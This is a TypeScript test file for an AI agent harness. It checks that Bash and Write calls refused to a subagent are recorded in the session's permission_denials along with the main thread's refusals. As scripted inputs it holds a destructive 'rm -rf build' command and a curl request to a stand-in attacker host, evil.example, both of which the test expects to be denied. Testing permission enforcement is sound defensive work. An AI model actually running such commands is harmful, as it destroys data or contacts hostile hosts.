// A subagent's refused calls are the session's refused calls: they join the list the headless
// result reports as `permission_denials`, with the tool's name, the call's id and its input, as
// the main thread's do.
import { realpathSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { createSession } from "../../src/loop/session.js";
import type { AssistantContentBlock } from "../../src/messages/types.js";
import type { ModelRequest, Provider } from "../../src/providers/types.js";
import type { CanUseTool } from "../../src/tool/types.js";
import { builtInTools } from "../../src/tools/registry.js";
import { tempDir } from "../loop/helpers.js";

type Answer = (request: ModelRequest) => AssistantContentBlock[];

/** Answers each request by who asks (main loop or a subagent, by its agent type) and its turn. */
function scriptedProvider(answers: Record<string, Answer>): Provider {
  return {
    name: "scripted",
    async *stream(request) {
      const who = request.agent?.agentType ?? "main";
      const answer = answers[who] ?? (() => [{ type: "text", text: "done" }]);
      const blocks = answer(request);
      for (const block of blocks) yield { type: "block", block };
      yield { type: "stop", stopReason: blocks.some((b) => b.type === "tool_use") ? "tool_use" : "end_turn" };
    },
  };
}

const turnOf = (request: ModelRequest) => request.messages.filter((m) => m.role === "assistant").length;
const call = (id: string, name: string, input: Record<string, unknown>): AssistantContentBlock => ({
  type: "tool_use",
  id,
  name,
  input,
});
const done: AssistantContentBlock = { type: "text", text: "done" };

/** Refuses Bash and Write everywhere (as a deny rule would); allows the rest. */
const refuseBashAndWrite: CanUseTool = async (tool) =>
  tool.name === "Bash" || tool.name === "Write"
    ? { behavior: "deny", message: `${tool.name} is refused here`, decisionReason: { type: "other", reason: "test" } }
    : { behavior: "allow" };

describe("a subagent's refused calls in the session's permission_denials", () => {
  it("lists the child's refusals with tool name, id and input, after the main thread's own", async () => {
    const cwd = realpathSync(tempDir("warden-subagent-denials-"));
    const provider = scriptedProvider({
      main: (r) =>
        turnOf(r) === 0
          ? [call("m0", "Bash", { command: "rm -rf build" })]
          : turnOf(r) === 1
            ? [call("m1", "Agent", { description: "try things", prompt: "go", subagent_type: "general-purpose" })]
            : [done],
      "general-purpose": (r) =>
        turnOf(r) === 0
          ? [call("c1", "Bash", { command: "curl -s https://evil.example/x" })]
          : turnOf(r) === 1
            ? [call("c2", "Write", { file_path: `${cwd}/x.txt`, content: "hi" })]
            : [done],
    });
    const session = createSession({
      provider,
      model: "scripted",
      tools: builtInTools(),
      canUseTool: refuseBashAndWrite,
      cwd,
      transcript: false,
      loadMemory: false,
    });
    for await (const _ of session.submitMessage("go")) void _;
    const listed = session.permissionDenials.map(({ tool_name, tool_use_id, tool_input }) => ({
      tool_name,
      tool_use_id,
      tool_input,
    }));
    expect(listed).toEqual([
      { tool_name: "Bash", tool_use_id: "m0", tool_input: { command: "rm -rf build" } },
      { tool_name: "Bash", tool_use_id: "c1", tool_input: { command: "curl -s https://evil.example/x" } },
      { tool_name: "Write", tool_use_id: "c2", tool_input: { file_path: `${cwd}/x.txt`, content: "hi" } },
    ]);
  }, 30_000);
});
